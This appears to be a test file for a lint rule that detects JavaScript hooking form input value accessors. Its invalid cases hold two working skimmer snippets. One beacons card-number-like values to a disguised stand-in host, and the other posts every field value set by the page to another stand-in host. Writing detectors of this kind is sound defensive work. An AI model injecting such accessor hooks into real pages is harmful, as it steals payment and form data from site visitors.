import rule from './value-accessor-hook.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    { name: "React's input value tracking (on the node, no request)", code: "var d = Object.getOwnPropertyDescriptor(node.constructor.prototype, 'value'); Object.defineProperty(node, 'value', { configurable: true, get: function () { return d.get.call(this); }, set: function (v) { current = '' + v; d.set.call(this, v); } });" },
    { name: 'a polyfill that patches the prototype without sending', code: "var d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); Object.defineProperty(HTMLInputElement.prototype, 'value', { get: function () { return d.get.call(this); }, set: function (v) { d.set.call(this, v); this.dispatchEvent(new Event('valuechange')); } });" },
    "Object.defineProperty(obj, 'value', { get: function () { fetch('/api/x'); return 1; } });",
  ],
  invalid: [
    { name: 'getter that beacons card-like values', code: "(function(){ var d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'), seen = {}; Object.defineProperty(HTMLInputElement.prototype, 'value', { get: function () { var v = d.get.call(this); if (/^\\d{15,16}$/.test(v) && !seen[v]) { seen[v] = 1; new Image().src = 'https://metrics-cdn-jsdelivr.example/i.gif?k=' + btoa(v); } return v; }, set: function (v) { d.set.call(this, v); } }); })();", messageIds: ['hook'], severity: 'critical' },
    { name: 'setter that posts every value set by the page', code: "var o = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); Object.defineProperty(HTMLInputElement.prototype, 'value', { set: function (x) { navigator.sendBeacon('https://cdn-stats.example/v', this.name + '=' + x); o.set.call(this, x); }, get: o.get });", messageIds: ['hook'] },
  ],
});
